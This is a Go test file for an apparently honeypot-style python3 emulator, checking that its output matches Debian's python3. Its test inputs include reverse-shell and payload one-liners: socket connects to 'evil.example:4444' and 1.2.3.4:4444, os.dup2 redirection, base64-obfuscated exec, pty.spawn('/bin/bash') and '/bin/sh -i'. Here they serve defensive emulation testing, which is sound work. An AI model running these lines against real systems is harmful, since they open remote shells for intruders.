@@ -1,0 +1,130 @@
+package commands
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// pyCases are programs whose behaviour the emulation must share with Debian's python3; the
+// connects go to the loopback (refused on the host and in the persona alike).
+var pyCases = []string{
+	`print("hi", 1+2, 'a'*3, 7//2, -4//3, None, True, [1,'x'])`,
+	`print(b"ab\n" + b'c')`,
+	`import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",1));os.dup2(s.fileno(),0)`,
+	"import socket\ns=socket.socket()\ns.connect((\"127.0.0.1\",1))",
+	`import base64;exec(base64.b64decode("aW1wb3J0IHNvY2tldApzPXNvY2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCIxMjcuMC4wLjEiLDEpKQ=="))`,
+	`import base64;exec(base64.b64decode('cHJpbnQoJ3gnKQ==').decode())`,
+	`import requests`,
+	`import os.nothere`,
+	`foo()`,
+	`import os;print "a"`,
+	"import os\nprint \"x\", 1\n",
+	`import sys; sys.exit(3)`,
+	`import sys; print('out'); sys.exit("bye")`,
+	`x = [i for i in range(3)]`,
+	`print('it\'s', "q\"q", '\x41\t|')`,
+}
+
+// debianPython is the host's Debian python3 for comparisons. Outside CI its absence skips
+// loudly; in CI it fails.
+func debianPython(t *testing.T) string {
+	t.Helper()
+	const p = "/usr/bin/python3"
+	if _, err := os.Stat(p); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("%s is missing; the CI image must provide Debian's python3", p)
+		}
+		t.Skipf("SKIPPED (not a pass): no %s here", p)
+	}
+	return p
+}
+
+func TestPythonMatchesDebian(t *testing.T) {
+	py := debianPython(t)
+	if out, _ := exec.Command(py, "-V").Output(); string(out) != pyVersion+"\n" {
+		t.Skipf("SKIPPED (not a pass): %s is %q, not Debian 12's", py, out)
+	}
+	e := newTestEnv(t)
+	for _, code := range pyCases {
+		cmd := exec.Command(py, "-c", code)
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}
+		cmd.Dir = t.TempDir()
+		var out, errb bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		err := cmd.Run()
+		st := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			st = ee.ExitCode()
+		}
+		gotOut, gotErr, gotSt := e.run("python3", "-c", code)
+		if gotOut != out.String() || gotErr != errb.String() || gotSt != st {
+			t.Errorf("python3 -c %q\n got %q %q %d\nwant %q %q %d", code, gotOut, gotErr, gotSt, out.String(), errb.String(), st)
+		}
+		// the same program as a script file and on stdin
+		dir := t.TempDir()
+		f := filepath.Join(dir, "x.py")
+		os.WriteFile(f, []byte(code+"\n"), 0o644)
+		if err := e.vfs().WriteFile("/tmp/x.py", []byte(code+"\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		cmd = exec.Command(py, f)
+		cmd.Dir = dir
+		out.Reset()
+		errb.Reset()
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		err = cmd.Run()
+		st = 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			st = ee.ExitCode()
+		}
+		gotOut, gotErr, gotSt = e.run("python3", "/tmp/x.py")
+		want := strings.ReplaceAll(errb.String(), f, "/tmp/x.py")
+		if gotOut != out.String() || gotErr != want || gotSt != st {
+			t.Errorf("python3 file %q\n got %q %q %d\nwant %q %q %d", code, gotOut, gotErr, gotSt, out.String(), want, st)
+		}
+	}
+}
+
+func TestPythonOffline(t *testing.T) {
+	e := newTestEnv(t)
+	tb := "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\n"
+	e.expect([]string{"python3", "-c", `import socket;s=socket.socket();s.connect(("1.2.3.4",4444))`}, "", tb+"OSError: [Errno 101] Network is unreachable\n", 1)
+	e.expect([]string{"python3", "-c", `import socket;s=socket.socket();s.connect(("evil.example",4444))`}, "", tb+"socket.gaierror: [Errno -3] Temporary failure in name resolution\n", 1)
+	e.expect([]string{"python3", "-V"}, "Python 3.11.2\n", "", 0)
+	e.expect([]string{"python3", "--version"}, "Python 3.11.2\n", "", 0)
+	e.expect([]string{"python3", "/tmp/none.py"}, "", "/usr/bin/python3: can't open file '/tmp/none.py': [Errno 2] No such file or directory\n", 2)
+	out, _, st := e.runIn("print(6*7)\n", "python3")
+	if out != "42\n" || st != 0 {
+		t.Errorf("script on stdin: %q %d", out, st)
+	}
+}
+
+func TestPythonRunsThroughShell(t *testing.T) {
+	e := newTestEnv(t)
+	e.sub = func(ctx context.Context, script string, a []string, in io.Reader, so, se io.Writer) int {
+		io.WriteString(so, "ran "+script+"\n")
+		return 2
+	}
+	e.expect([]string{"python3", "-c", `import os; print(os.system("uname -a"))`}, "ran uname -a\n512\n", "", 0)
+	e.expect([]string{"python3", "-c", `import pty; pty.spawn("/bin/bash")`}, "ran /bin/bash\n", "", 0)
+	e.expect([]string{"python3", "-c", `import subprocess; subprocess.call(["/bin/sh", "-i"])`}, "ran /bin/sh -i\n", "", 0)
+	e.expect([]string{"python3", "-c", `import base64;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))`}, "ran id\n", "", 0)
+	if len(e.subRuns) != 4 {
+		t.Errorf("sub runs: %v", e.subRuns)
+	}
+}
+
+func TestPerlVersionMatchesDebian(t *testing.T) {
+	out, _, st := hostRun(t, []string{"PATH=/usr/bin:/bin"}, "perl", "-v")
+	if !strings.Contains(out, "v5.36.0") {
+		t.Skipf("SKIPPED (not a pass): host perl is not 5.36.0")
+	}
+	e := newTestEnv(t)
+	e.expect([]string{"perl", "-v"}, out, "", st)
+}
